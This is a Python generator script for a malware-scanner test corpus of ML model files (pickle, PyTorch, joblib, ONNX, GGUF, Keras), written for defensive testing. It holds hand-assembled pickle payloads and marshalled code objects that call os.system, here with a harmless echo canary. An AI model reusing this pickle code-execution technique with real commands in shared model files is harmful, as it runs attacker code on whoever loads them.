#!/usr/bin/env python3
"""Generates the MlBuildGuard model-scanner test corpus.

    python3 tests/corpus/generate.py

Writes tests/corpus/files/<category>/<name> and tests/corpus/manifest.json. Standard library only (Python 3.8+;
written and checked with 3.11). The output is deterministic: fixed zip/tar timestamps, no randomness (the "random"
bytes come from SHA-256 of a fixed seed), so two runs give byte-identical files. The files/ folder is deleted and
rebuilt on every run.

SAFETY: many files here are malicious pickles. This script only *writes* bytes (hand-assembled opcodes, or
pickle.dumps of harmless stand-in objects); it never unpickles anything, and neither may any test: tests scan these
files, they never load them. Every payload command is the harmless "echo mlbuildguard-corpus-canary", every URL/host is
127.0.0.1 or *.invalid, every path is non-existent or read-only.

Stand-in modules: torch, numpy, sklearn, joblib and mypackage are NOT installed. To let pickle.dumps refer to their
names (torch._utils._rebuild_tensor_v2, numpy.dtype, ...) this script registers empty types.ModuleType objects under
those names in sys.modules, inside this process only.
"""

import base64
import bz2
import collections
import hashlib
import io
import json
import lzma
import os
import pickle
import shutil
import struct
import sys
import tarfile
import types
import zlib

sys.dont_write_bytecode = True  # importing the case module below must not leave a __pycache__ in the corpus
import gadget_cases  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
FILES = os.path.join(HERE, "files")
MANIFEST = os.path.join(HERE, "manifest.json")

CANARY = "echo mlbuildguard-corpus-canary"
ENTRIES = []
SUPPORT = []  # files that are not scan targets on their own (ONNX external data); covered by folder entries

MLG301, MLG302, MLG303, MLG304, MLG305, MLG306, MLG307 = (
    "MLG301", "MLG302", "MLG303", "MLG304", "MLG305", "MLG306", "MLG307")


def emit(rel, data, expect, why):
    """Writes files/<rel> and records it in the manifest."""
    path = os.path.join(FILES, *rel.split("/"))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    record(rel, expect, why)


def support(rel, data):
    """Writes files/<rel> without a manifest entry: data another corpus file refers to (its folder has an entry)."""
    path = os.path.join(FILES, *rel.split("/"))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    SUPPORT.append("files/" + rel)


def record_folder(rel, expect, why):
    """A manifest entry for a folder: scan the folder as one model (e.g. an ONNX model with its external data)."""
    assert os.path.isdir(os.path.join(FILES, *rel.split("/")))
    record(rel, expect, why)


def record(rel, expect, why):
    assert "\n" not in why
    if isinstance(expect, list):
        expect = sorted(set(expect))
        if len(expect) == 1:
            expect = expect[0]
    ENTRIES.append({"file": "files/" + rel, "expect": expect, "why": why})


def pseudo_random(seed, n):
    """Deterministic bytes: SHA-256 in counter mode over a fixed seed."""
    out = bytearray()
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(seed.encode() + struct.pack("<Q", counter)).digest()
        counter += 1
    return bytes(out[:n])


# ---------------------------------------------------------------------------------------------------------------------
# Pickle opcode assembler (hand-written bytes; nothing here is ever loaded)
# ---------------------------------------------------------------------------------------------------------------------

MARK, STOP, POP, POP_MARK, DUP = b"(", b".", b"0", b"1", b"2"
NONE, NEWTRUE, NEWFALSE = b"N", b"\x88", b"\x89"
EMPTY_TUPLE, EMPTY_LIST, EMPTY_DICT = b")", b"]", b"}"
TUPLE, TUPLE1, TUPLE2, TUPLE3, LIST, DICT = b"t", b"\x85", b"\x86", b"\x87", b"l", b"d"
APPEND, APPENDS, SETITEM, SETITEMS = b"a", b"e", b"s", b"u"
REDUCE, BUILD, NEWOBJ, NEWOBJ_EX, OBJ = b"R", b"b", b"\x81", b"\x92", b"o"
STACK_GLOBAL, MEMOIZE = b"\x93", b"\x94"


def PROTO(n):
    return b"\x80" + bytes([n])


def FRAME(n):
    return b"\x95" + struct.pack("<Q", n)


def BINPUT(i):
    return b"q" + bytes([i])


def BINGET(i):
    return b"h" + bytes([i])


def EXT1(code):
    return b"\x82" + bytes([code])


def GLOBAL(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def INST(module, name):
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def U(s):
    """SHORT_BINUNICODE (protocol 4) or BINUNICODE for long text."""
    b = s.encode("utf-8")
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def BU(s):
    """BINUNICODE (protocol 1+)."""
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def STRING(s):
    """Protocol-0 STRING: a quoted Python literal on one line."""
    return b"S" + repr(s).encode("ascii") + b"\n"


def BINSTRING(s):
    b = s.encode("latin-1")
    return b"T" + struct.pack("<i", len(b)) + b


def SHORT_BINSTRING(s):
    b = s.encode("latin-1")
    return b"U" + bytes([len(b)]) + b


def BYTES(b):
    if len(b) < 256:
        return b"C" + bytes([len(b)]) + b
    return b"B" + struct.pack("<I", len(b)) + b


def INT(n):
    if 0 <= n < 256:
        return b"K" + bytes([n])
    return b"J" + struct.pack("<i", n)


def SG(module, name):
    """module and name as SHORT_BINUNICODE, then STACK_GLOBAL (protocol 4)."""
    return U(module) + U(name) + STACK_GLOBAL


def TUP(*items):
    return MARK + b"".join(items) + TUPLE


def CALL(func, *args):
    """func(*args) with MARK ... TUPLE REDUCE (valid in every protocol >= 1)."""
    return func + TUP(*args) + REDUCE


def LST(*items):
    return EMPTY_LIST + (MARK + b"".join(items) + APPENDS if items else b"")


def framed4(body, proto=4):
    """PROTO 4/5 + one FRAME around the whole body, as pickle.dumps does for small pickles."""
    return PROTO(proto) + FRAME(len(body)) + body


def p2(body):
    return PROTO(2) + body + STOP


def p4(body):
    return framed4(body + STOP)


# A plain payload used inside containers: os.system("echo ...") at protocol 2, what torch.save would write.
PAYLOAD_P2 = p2(CALL(GLOBAL("os", "system"), BU(CANARY)))
# Protocol 4 with STACK_GLOBAL and a frame, what pickle.dumps writes by default.
PAYLOAD_P4 = p4(CALL(SG("os", "system"), U(CANARY)))
# Protocol 0 (text opcodes only), as pickle.dumps(protocol=0) writes it.
PAYLOAD_P0 = GLOBAL("os", "system") + MARK + STRING(CANARY) + TUPLE + REDUCE + STOP

# Code objects, marshalled once with CPython 3.11 and stored as constants (marshal output depends on the interpreter
# version, so it is not recomputed). Both run os.system("echo mlbuildguard-corpus-canary").
# MARSHAL_MODULE_CODE = marshal.dumps(compile("__import__('os').system('echo mlbuildguard-corpus-canary')", ..., "exec"))
MARSHAL_MODULE_CODE = base64.b64decode(
    "4wAAAAAAAAAAAAAAAAMAAAAAAAAA80IAAACXAAIAZQBkAKYBAACrAQAAAAAAAAAAoAEAAAAAAAAAAAAAAAAAAAAAAAAAAGQBpgEAAKsB"
    "AAAAAAAAAAABAGQCUwApA9oCb3N6H2VjaG8gbWxidWlsZGd1YXJkLWNvcnB1cy1jYW5hcnlOKQLaCl9faW1wb3J0X1/aBnN5c3RlbakA"
    "8wAAAAD6FTxtbGJ1aWxkZ3VhcmQtY29ycHVzPvoIPG1vZHVsZT5yCAAAAAEAAABzKgAAAPADAQEB2AAKgAqINNEAENQAENcAF9IAF9AY"
    "OdEAOtQAOtAAOtAAOtAAOnIGAAAA")
# The code object of: lambda x: __import__('os').system('echo mlbuildguard-corpus-canary') or x
MARSHAL_LAMBDA_CODE = base64.b64decode(
    "4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAAAAAAAAAAAAAAAAAAAAAA"
    "ZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3N6H2VjaG8gbWxidWlsZGd1YXJkLWNvcnB1cy1jYW5hcnkpAtoKX19pbXBvcnRfX9oG"
    "c3lzdGVtKQHaAXhzAQAAACD6FTxtbGJ1aWxkZ3VhcmQtY29ycHVzPvoIPGxhbWJkYT5yBwAAAAEAAABzIgAAAIAAjSqQVNEKGtQKGtcK"
    "IdIKIdAiQ9EKRNQKRNAKScgBgADzAAAAAA==")


# ---------------------------------------------------------------------------------------------------------------------
# Containers: a hand-rolled zip writer (so flags, names, CRCs and methods can be set freely), tar, compression
# ---------------------------------------------------------------------------------------------------------------------

DOS_TIME, DOS_DATE = 0, (0 << 9) | (1 << 5) | 1  # 1980-01-01 00:00:00


def deflate(data, level=6):
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def zip_bytes(entries, base_offset=0, comment=b""):
    """entries: dicts with name, data and optional method (0/8/12/99), flags, local_name, crc, raw (compressed bytes
    as stored), usize, extra, align64 (PyTorch-style 'FB' padding so data starts on a 64-byte boundary).
    base_offset: where the zip starts inside the file (for polyglots: offsets are absolute)."""
    out = bytearray()
    central = bytearray()
    for e in entries:
        name = e["name"].encode("utf-8")
        data = e.get("data", b"")
        method = e.get("method", 0)
        if "raw" in e:
            comp = e["raw"]
        elif method == 0:
            comp = data
        elif method == 8:
            comp = deflate(data)
        elif method == 12:
            comp = bz2.compress(data, 9)
        else:
            raise ValueError(method)
        crc = e.get("crc", zlib.crc32(data) & 0xFFFFFFFF)
        usize = e.get("usize", len(data))
        flags = e.get("flags", 0)
        local_name = e.get("local_name", e["name"]).encode("utf-8")
        extra = e.get("extra", b"")
        version = 46 if method == 12 else (51 if method == 99 else 20)
        offset = base_offset + len(out)
        if e.get("align64"):
            start = offset + 30 + len(local_name) + 4
            pad = (-start) % 64
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, version, flags, method, DOS_TIME, DOS_DATE, crc, len(comp),
                           usize, len(local_name), len(extra)) + local_name + extra + comp
        cextra = e.get("extra", b"") if not e.get("align64") else b""
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, version, version, flags, method, DOS_TIME, DOS_DATE,
                               crc, len(comp), usize, len(name), len(cextra), 0, 0, 0, 0, offset) + name + cextra
    cd_offset = base_offset + len(out)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_offset,
                       len(comment)) + comment
    return bytes(out + central + eocd)


def tar_bytes(members):
    """members: [(name, data)] -> an uncompressed ustar archive with fixed metadata."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            info.mode = 0o644
            info.uid = info.gid = 0
            info.uname = info.gname = ""
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def joblib_zlib(data):
    c = zlib.compressobj(3, zlib.DEFLATED, 15)  # joblib compress=3 (BinaryZlibFile)
    return c.compress(data) + c.flush()


def joblib_gzip(data):
    c = zlib.compressobj(3, zlib.DEFLATED, 31)  # gzip member, mtime 0, no file name
    return c.compress(data) + c.flush()


def joblib_bz2(data):
    return bz2.compress(data, 3)


def joblib_xz(data):
    return lzma.compress(data, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64, preset=3)


def joblib_lzma(data):
    return lzma.compress(data, format=lzma.FORMAT_ALONE, preset=3)


def joblib_zf(data):
    """joblib < 0.10 'ZF' format: b'ZF' + hex length padded to 19 chars + zlib stream."""
    return b"ZF" + "{:#x}".format(len(data)).ljust(len("{:#x}".format(2 ** 64))).encode() + zlib.compress(data, 3)


JOBLIB_COMPRESSORS = [
    ("zlib", joblib_zlib, "zlib stream (78 5E)"),
    ("gzip", joblib_gzip, "gzip (1F 8B)"),
    ("bz2", joblib_bz2, "bzip2 (BZh)"),
    ("xz", joblib_xz, "xz (FD 37 7A 58 5A 00)"),
    ("lzma", joblib_lzma, "lzma-alone (5D 00 00)"),
]


def xxh32(data, seed=0):
    p1, p2, p3, p4, p5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    m = 0xFFFFFFFF

    def rotl(x, r):
        return ((x << r) | (x >> (32 - r))) & m

    n = len(data)
    i = 0
    if n >= 16:
        v = [(seed + p1 + p2) & m, (seed + p2) & m, seed & m, (seed - p1) & m]
        while i + 16 <= n:
            for k in range(4):
                lane = struct.unpack_from("<I", data, i + 4 * k)[0]
                v[k] = (rotl((v[k] + lane * p2) & m, 13) * p1) & m
            i += 16
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & m
    else:
        h = (seed + p5) & m
    h = (h + n) & m
    while i + 4 <= n:
        h = (rotl((h + struct.unpack_from("<I", data, i)[0] * p3) & m, 17) * p4) & m
        i += 4
    while i < n:
        h = (rotl((h + data[i] * p5) & m, 11) * p1) & m
        i += 1
    h ^= h >> 15
    h = (h * p2) & m
    h ^= h >> 13
    h = (h * p3) & m
    h ^= h >> 16
    return h


def lz4_frame_uncompressed(data):
    """A valid LZ4 frame (magic 04 22 4D 18) holding the data in one uncompressed block."""
    descriptor = bytes([0x60, 0x40])  # version 01, independent blocks; 64 KiB max block
    hc = (xxh32(descriptor) >> 8) & 0xFF
    return (b"\x04\x22\x4d\x18" + descriptor + bytes([hc]) + struct.pack("<I", len(data) | 0x80000000) + data
            + b"\x00\x00\x00\x00")


def zipcrypto_encrypt(data, password, crc):
    """Traditional PKWARE (ZipCrypto) encryption of an already-stored entry: 12-byte header + data."""
    def crc_update(c, b):
        return zlib.crc32(bytes([b]), c ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(b):
        keys[0] = crc_update(keys[0], b)
        keys[1] = (keys[1] + (keys[0] & 0xFF)) & 0xFFFFFFFF
        keys[1] = (keys[1] * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc_update(keys[2], keys[1] >> 24)

    def stream_byte():
        t = (keys[2] | 2) & 0xFFFF
        return ((t * (t ^ 1)) >> 8) & 0xFF

    for b in password:
        update(b)
    header = pseudo_random("zipcrypto-header", 11) + bytes([crc >> 24])
    out = bytearray()
    for b in header + data:
        out.append(b ^ stream_byte())
        update(b)
    return bytes(out)


# ---------------------------------------------------------------------------------------------------------------------
# Stand-in modules so that pickle.dumps can write torch / numpy / sklearn / joblib names (never imported for real)
# ---------------------------------------------------------------------------------------------------------------------

def fake_module(name):
    if name in sys.modules and not getattr(sys.modules[name], "__mlbuildguard_fake__", False):
        raise RuntimeError("refusing to shadow the real module " + name)
    mod = types.ModuleType(name)
    mod.__mlbuildguard_fake__ = True
    sys.modules[name] = mod
    if "." in name:
        parent, _, child = name.rpartition(".")
        setattr(sys.modules[parent], child, mod)
    return mod


def place(mod, obj, name):
    obj.__module__ = mod.__name__
    obj.__qualname__ = name
    obj.__name__ = name
    setattr(mod, name, obj)
    return obj


for _m in ["torch", "torch._utils", "numpy", "numpy.core", "numpy.core.multiarray", "sklearn", "sklearn.linear_model",
           "sklearn.linear_model._logistic", "joblib", "joblib.numpy_pickle", "mylib", "mypackage"]:
    fake_module(_m)
torch_m, torch_utils_m = sys.modules["torch"], sys.modules["torch._utils"]
numpy_m, multiarray_m = sys.modules["numpy"], sys.modules["numpy.core.multiarray"]


def _rebuild_tensor_v2(*args):
    raise RuntimeError("stand-in, never called")


place(torch_utils_m, _rebuild_tensor_v2, "_rebuild_tensor_v2")


class FloatStorage:
    pass


class LongStorage:
    pass


place(torch_m, FloatStorage, "FloatStorage")
place(torch_m, LongStorage, "LongStorage")


class Storage:
    """A torch storage: pickled through persistent_id as ('storage', <type>, key, 'cpu', numel)."""

    def __init__(self, key, storage_type, fmt, values):
        self.key, self.storage_type, self.values = key, storage_type, values
        self.raw = struct.pack("<%d%s" % (len(values), fmt), *values)


class Tensor:
    def __init__(self, storage, shape):
        self.storage, self.shape = storage, tuple(shape)
        stride, acc = [], 1
        for d in reversed(shape):
            stride.insert(0, acc)
            acc *= d
        self.stride = tuple(stride)

    def __reduce_ex__(self, proto):
        return (_rebuild_tensor_v2, (self.storage, 0, self.shape, self.stride, False, collections.OrderedDict()))


def _reconstruct(*args):
    raise RuntimeError("stand-in, never called")


place(multiarray_m, _reconstruct, "_reconstruct")


class dtype:  # noqa: N801 - numpy.dtype
    def __init__(self, code, byteorder, flags=0):
        self.code, self.byteorder, self.flags = code, byteorder, flags
        self.itemsize = int(code[1:])
        self.hasobject = code.startswith("O")

    def __reduce__(self):
        return (dtype, (self.code, False, True), (3, self.byteorder, None, None, None, -1, -1, self.flags))


class ndarray:  # noqa: N801 - numpy.ndarray
    def __init__(self, dt, shape, values=None, fmt=None, payload=None):
        self.dtype, self.shape = dt, tuple(shape)
        self.raw = struct.pack("<%d%s" % (len(values), fmt), *values) if values is not None else b""
        self.payload = payload  # for object arrays: the nested pickle bytes joblib would write

    def __reduce__(self):
        return (_reconstruct, (ndarray, (0,), b"b"), (1, self.shape, self.dtype, False, self.raw))


place(numpy_m, dtype, "dtype")
place(numpy_m, ndarray, "ndarray")

F8, F4, I8, I4 = dtype("f8", "<"), dtype("f4", "<"), dtype("i8", "<"), dtype("i4", "<")
OBJ8 = dtype("O8", "|", 63)


class LogisticRegression:
    pass


place(sys.modules["sklearn.linear_model._logistic"], LogisticRegression, "LogisticRegression")


class NumpyArrayWrapper:
    pass


place(sys.modules["joblib.numpy_pickle"], NumpyArrayWrapper, "NumpyArrayWrapper")


class Model:
    pass


place(sys.modules["mylib"], Model, "Model")


class MyClass:
    pass


place(sys.modules["mypackage"], MyClass, "MyClass")


def logistic_regression():
    est = LogisticRegression()
    est.__dict__.update({
        "penalty": "l2", "dual": False, "tol": 0.0001, "C": 1.0, "fit_intercept": True, "intercept_scaling": 1,
        "class_weight": None, "random_state": None, "solver": "lbfgs", "max_iter": 100, "multi_class": "auto",
        "verbose": 0, "warm_start": False, "n_jobs": None, "l1_ratio": None, "n_features_in_": 3,
        "classes_": ndarray(I8, (2,), [0, 1], "q"),
        "n_iter_": ndarray(I4, (1,), [7], "i"),
        "coef_": ndarray(F8, (1, 3), [0.25, -1.5, 2.0], "d"),
        "intercept_": ndarray(F8, (1,), [0.125], "d"),
        "_sklearn_version": "1.5.0",
    })
    return est


class TorchPickler(pickle.Pickler):
    """torch.save's data.pkl pickler: protocol 2, storages as persistent ids."""

    def __init__(self, f, legacy=False):
        super().__init__(f, protocol=2)
        self.legacy = legacy
        self.storages = collections.OrderedDict()

    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            self.storages[obj.key] = obj
            if self.legacy:  # legacy stream: (..., numel, view_metadata)
                return ("storage", obj.storage_type, obj.key, "cpu", len(obj.values), None)
            return ("storage", obj.storage_type, obj.key, "cpu", len(obj.values))
        return None


def torch_dump(obj, legacy=False):
    buf = io.BytesIO()
    p = TorchPickler(buf, legacy)
    p.dump(obj)
    return buf.getvalue(), p.storages


class JoblibPickler(pickle._Pickler):
    """joblib.numpy_pickle.NumpyPickler: an ndarray is written as a NumpyArrayWrapper object followed, right after
    its BUILD, by the raw array bytes (1 padding-length byte + 0xFF padding to 16-byte alignment, then the data) or,
    for object arrays, by a nested protocol-2 pickle."""

    def __init__(self, f, protocol=4):
        super().__init__(f, protocol=protocol)
        self.file_handle = f

    def save(self, obj, save_persistent_id=True):
        if type(obj) is ndarray:
            wrapper = NumpyArrayWrapper()
            wrapper.__dict__.update({
                "subclass": ndarray, "shape": obj.shape, "order": "C", "dtype": obj.dtype,
                "allow_mmap": not obj.dtype.hasobject, "numpy_array_alignment_bytes": 16})
            pickle._Pickler.save(self, wrapper)
            if self.proto >= 4:
                self.framer.commit_frame(force=True)
            if obj.dtype.hasobject:
                self.file_handle.write(obj.payload)
            else:
                pos_after_padding_byte = self.file_handle.tell() + 1
                padding = 16 - (pos_after_padding_byte % 16)
                self.file_handle.write(bytes([padding]) + b"\xff" * padding)
                self.file_handle.write(obj.raw)
            return
        return pickle._Pickler.save(self, obj, save_persistent_id)


def joblib_dump(obj):
    buf = io.BytesIO()
    JoblibPickler(buf).dump(obj)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------------------------------
# PyTorch files
# ---------------------------------------------------------------------------------------------------------------------

def state_dict():
    w = Storage("0", FloatStorage, "f", [0.5, -0.25, 1.0, 2.0])
    b = Storage("1", FloatStorage, "f", [0.0, 0.125])
    steps = Storage("2", LongStorage, "q", [1000])
    sd = collections.OrderedDict([("fc.weight", Tensor(w, (2, 2))), ("fc.bias", Tensor(b, (2,))),
                                  ("num_batches_tracked", Tensor(steps, ()))])
    sd._metadata = collections.OrderedDict([("", {"version": 1}), ("fc", {"version": 1})])
    return sd


def torch_zip(data_pkl, storages, prefix="archive", data_name="data.pkl"):
    entries = [{"name": prefix + "/" + data_name, "data": data_pkl, "align64": True},
               {"name": prefix + "/byteorder", "data": b"little", "align64": True}]
    for key, st in storages.items():
        entries.append({"name": prefix + "/data/" + key, "data": st.raw, "align64": True})
    entries.append({"name": prefix + "/version", "data": b"3\n", "align64": True})
    return zip_bytes(entries)


TORCH_MAGIC = 0x1950A86A20F9469CFC6C
SYS_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def torch_legacy(obj_pickle=None, magic_pickle=None):
    """Legacy (PyTorch < 1.6) stream: magic, protocol, sys_info, object pickle, storage keys, raw storages."""
    data_pkl, storages = torch_dump(state_dict(), legacy=True)
    out = magic_pickle if magic_pickle is not None else pickle.dumps(TORCH_MAGIC, protocol=2)
    out += pickle.dumps(1001, protocol=2) + pickle.dumps(SYS_INFO, protocol=2)
    out += obj_pickle if obj_pickle is not None else data_pkl
    keys = sorted(storages)
    out += pickle.dumps(keys, protocol=2)
    for k in keys:
        out += struct.pack("<q", len(storages[k].values)) + storages[k].raw
    return out


# ---------------------------------------------------------------------------------------------------------------------
# numpy .npy / .npz
# ---------------------------------------------------------------------------------------------------------------------

def npy(descr, shape, payload, fortran=False, version=1):
    header = "{'descr': %r, 'fortran_order': %r, 'shape': %r, }" % (descr, fortran, tuple(shape))
    magic = b"\x93NUMPY" + bytes([version, 0])
    len_size = 2 if version == 1 else 4
    total = len(magic) + len_size + len(header) + 1
    header += " " * ((-total) % 64) + "\n"
    hb = header.encode("latin-1")
    return magic + (struct.pack("<H", len(hb)) if version == 1 else struct.pack("<I", len(hb))) + hb + payload


# ---------------------------------------------------------------------------------------------------------------------
# safetensors / GGUF / ONNX
# ---------------------------------------------------------------------------------------------------------------------

def safetensors(header, buffer, pad=True):
    """header: dict (serialised compactly) or raw JSON text."""
    text = header if isinstance(header, str) else json.dumps(header, separators=(",", ":"))
    hb = text.encode("utf-8")
    if pad:
        hb += b" " * ((-(8 + len(hb))) % 8)
    return struct.pack("<Q", len(hb)) + hb + buffer


GGUF_U32, GGUF_I32, GGUF_STRING, GGUF_ARRAY = 4, 5, 8, 9


def gstr(s):
    b = s.encode("utf-8")
    return struct.pack("<Q", len(b)) + b


def gkv_str(key, value):
    return gstr(key) + struct.pack("<I", GGUF_STRING) + gstr(value)


def gkv_u32(key, value):
    return gstr(key) + struct.pack("<I", GGUF_U32) + struct.pack("<I", value)


def gkv_i32_array(key, values):
    return (gstr(key) + struct.pack("<I", GGUF_ARRAY) + struct.pack("<IQ", GGUF_I32, len(values))
            + b"".join(struct.pack("<i", v) for v in values))


def gtensor(name, dims, ggml_type, offset):
    return gstr(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack(
        "<IQ", ggml_type, offset)


def gguf(kvs, tensors, data, tensor_count=None, kv_count=None, alignment=32, version=3):
    head = b"GGUF" + struct.pack("<IQQ", version, len(tensors) if tensor_count is None else tensor_count,
                                 len(kvs) if kv_count is None else kv_count)
    body = head + b"".join(kvs) + b"".join(tensors)
    if alignment:
        body += b"\x00" * ((-len(body)) % alignment)
    return body + data


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_varint(field, n):
    return varint(field << 3) + varint(n)


def pb_bytes(field, b):
    if isinstance(b, str):
        b = b.encode("utf-8")
    return varint((field << 3) | 2) + varint(len(b)) + b


def onnx_model(location=None, offset=None, length=None, dims=(4, 4), raw=None):
    """ModelProto{ir_version=1, producer_name, opset_import, graph{node MatMul, initializer TensorProto, input,
    output}}; the initializer is external (data_location=EXTERNAL) when location is given, else inline raw_data."""
    tensor = b"".join(pb_varint(1, d) for d in dims) + pb_varint(2, 1) + pb_bytes(8, "fc.weight")
    if location is not None:
        for k, v in [("location", location), ("offset", offset), ("length", length)]:
            if v is not None:
                tensor += pb_bytes(13, pb_bytes(1, k) + pb_bytes(2, str(v)))
        tensor += pb_varint(14, 1)
    else:
        tensor += pb_bytes(9, raw)
    node = pb_bytes(1, "X") + pb_bytes(1, "fc.weight") + pb_bytes(2, "Y") + pb_bytes(3, "matmul") + pb_bytes(4, "MatMul")
    graph = (pb_bytes(1, node) + pb_bytes(2, "mlbuildguard_corpus") + pb_bytes(5, tensor) + pb_bytes(11, pb_bytes(1, "X"))
             + pb_bytes(12, pb_bytes(1, "Y")))
    return (pb_varint(1, 1) + pb_bytes(2, "mlbuildguard-corpus") + pb_bytes(8, pb_bytes(1, "") + pb_varint(2, 13))
            + pb_bytes(7, graph))


FLOATS16 = struct.pack("<16f", *[i / 8.0 for i in range(16)])


# ---------------------------------------------------------------------------------------------------------------------
# Keras
# ---------------------------------------------------------------------------------------------------------------------

def keras_obj(module, class_name, config, registered_name=None, build=None):
    o = {"module": module, "class_name": class_name, "config": config, "registered_name": registered_name}
    if build is not None:
        o["build_config"] = {"input_shape": build}
    return o


def dense(name, units, activation="relu"):
    return keras_obj("keras.layers", "Dense", {
        "name": name, "trainable": True,
        "dtype": keras_obj("keras", "DTypePolicy", {"name": "float32"}),
        "units": units, "activation": activation, "use_bias": True,
        "kernel_initializer": keras_obj("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": keras_obj("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None,
    }, build=[None, 4])


def keras_model(layers):
    return keras_obj("keras", "Sequential", {
        "name": "sequential", "trainable": True,
        "dtype": keras_obj("keras", "DTypePolicy", {"name": "float32"}),
        "layers": [keras_obj("keras.layers", "InputLayer", {
            "batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"})] + layers,
        "build_input_shape": [None, 4],
    }, build=[None, 4])


HDF5_SIGNATURE = b"\x89HDF\r\n\x1a\n"


def h5_placeholder(extra=b""):
    """HDF5 signature + a version-0 superblock (offsets/lengths 8 bytes), then `extra`. Not a full HDF5 file."""
    sb = HDF5_SIGNATURE + bytes([0, 0, 0, 0, 0, 8, 8, 0]) + struct.pack("<HHI", 4, 16, 0)
    sb += struct.pack("<QQQQ", 0, 0xFFFFFFFFFFFFFFFF, 0, 0xFFFFFFFFFFFFFFFF)  # base, free-space, EOF (patched), driver
    sb += b"\x00" * 40  # root group symbol table entry
    data = bytearray(sb + extra)
    struct.pack_into("<Q", data, 8 + 8 + 8 + 8 + 8, len(data))  # end-of-file address
    return bytes(data)


def keras_zip(config):
    return zip_bytes([
        {"name": "metadata.json", "data": json.dumps({"keras_version": "3.3.3", "date_saved": "2024-05-01@12:00:00"})
            .encode(), "method": 8},
        {"name": "config.json", "data": json.dumps(config).encode(), "method": 8},
        {"name": "model.weights.h5", "data": h5_placeholder(), "method": 8},
    ])


# =====================================================================================================================
# The corpus
# =====================================================================================================================

def gen_benign():
    mixed = {
        "int": 1, "neg": -5, "int32": 70000, "big": 2 ** 70, "float": 1.5, "str": "h\u00e9llo \u6a21\u578b",
        "bytes": b"\x00\x01abc\xff", "none": None, "true": True, "false": False,
        "list": [1, 2, [3, 4.25]], "tuple": (1, "a", None), "nested": {"a": {"b": [1.0, {"c": None, "d": [[], {}]}]}},
    }
    for proto in range(6):
        obj = dict(mixed)
        why = "plain pickle, protocol %d: dict with int/float/str/bytes/None/bool/list/tuple/nested containers" % proto
        if proto < 3:
            why += "; bytes pickle as _codecs.encode(str,'latin1') (allowlisted, PyTorch weights_only)"
        if proto >= 4:
            why += "; PROTO + FRAME"
        if proto == 5:
            obj["bytearray"] = bytearray(b"\x10\x20")  # BYTEARRAY8
            why += " + BYTEARRAY8"
        emit("benign/mixed_p%d.pkl" % proto, pickle.dumps(obj, protocol=proto), "clean", why)
    scalars = [("str_p0.pkl", "model-name", 0), ("int_p1.pkl", 123456789, 1), ("none_p2.pkl", None, 2),
               ("float_p3.pkl", -0.001, 3), ("bool_p4.pkl", True, 4), ("bytes_p3.pkl", b"\x00" * 32, 3),
               ("list_p5.pkl", [1, "two", 3.0, None, [b"x"]], 5), ("nested_p2.pkl", [[[[{"k": (1, 2)}]]]], 2)]
    for name, obj, proto in scalars:
        emit("benign/" + name, pickle.dumps(obj, protocol=proto), "clean",
             "plain pickle, protocol %d, top-level %s" % (proto, type(obj).__name__))
    big = {"vocab": ["token_%05d_%s" % (i, "x" * 30) for i in range(2000)]}
    emit("benign/multiframe_p4.pkl", pickle.dumps(big, protocol=4), "clean",
         "protocol 4 pickle over 64 KiB: several FRAME opcodes (frame boundaries respected)")
    emit("benign/ordereddict_p2.pkl",
         pickle.dumps(collections.OrderedDict([("a", 1), ("b", [2.0])]), protocol=2), "clean",
         "collections.OrderedDict via REDUCE + SETITEMS (allowlisted)")

    # PyTorch zip state_dict
    data_pkl, storages = torch_dump(state_dict())
    emit("benign/torch_state_dict.pt", torch_zip(data_pkl, storages), "clean",
         "PyTorch zip: archive/data.pkl (protocol 2, OrderedDict of torch._utils._rebuild_tensor_v2 tensors, BINPERSID "
         "('storage', torch.FloatStorage/LongStorage, key, 'cpu', numel), BUILD of _metadata) + archive/data/0..2 "
         "+ byteorder + version; 64-byte 'FB' alignment padding")
    emit("benign/torch_state_dict_named.bin", torch_zip(data_pkl, storages, prefix="pytorch_model"), "clean",
         "same state_dict zip with the archive folder named like the file (pytorch_model/...), extension .bin")
